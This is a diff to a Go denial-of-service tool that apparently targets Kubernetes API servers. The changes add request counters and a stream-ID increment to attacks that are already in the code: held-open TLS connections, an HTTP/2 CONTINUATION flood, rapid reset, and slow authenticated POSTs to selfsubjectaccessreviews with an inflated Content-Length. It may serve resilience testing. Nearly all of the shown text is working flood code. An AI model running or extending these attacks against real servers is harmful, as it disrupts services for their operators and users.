@@ -73,6 +73,7 @@ var attacks = []attack{
 				break
 			}
 			conn.Write([]byte{22})
+			x.sent.Add(1)
 			open = append(open, conn)
 		}
 		<-ctx.Done()
@@ -86,6 +87,7 @@ var attacks = []attack{
 			c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: c.block.Bytes()})
 			for ctx.Err() == nil && c.framer.WriteContinuation(c.next, false, nil) == nil {
 			}
+			c.next += 2
 		})
 	}},
 	{"rapid reset", func(ctx context.Context, x *target) {
@@ -129,6 +131,7 @@ var attacks = []attack{
 				continue
 			}
 			fmt.Fprintf(conn, "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{", x.token)
+			x.sent.Add(1)
 			open = append(open, conn)
 		}
 		<-ctx.Done()
@@ -190,6 +193,7 @@ func (x *target) post(ctx context.Context, connections int, bodies map[string]st
 					if body[0] != '{' && body[0] != '[' {
 						r.Header.Set("Content-Type", "application/yaml")
 					}
+					x.sent.Add(1)
 					if resp, err := client.Do(r); err == nil {
 						io.Copy(io.Discard, resp.Body)
 						resp.Body.Close()
@@ -262,6 +266,9 @@ func (x *target) connect(ctx context.Context, connections int, use func(c *hosti
 				io.WriteString(conn, http2.ClientPreface)
 				c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 				use(c)
+				if c.next > 1 {
+					x.sent.Add(1)
+				}
 				stop()
 				conn.Close()
 			}
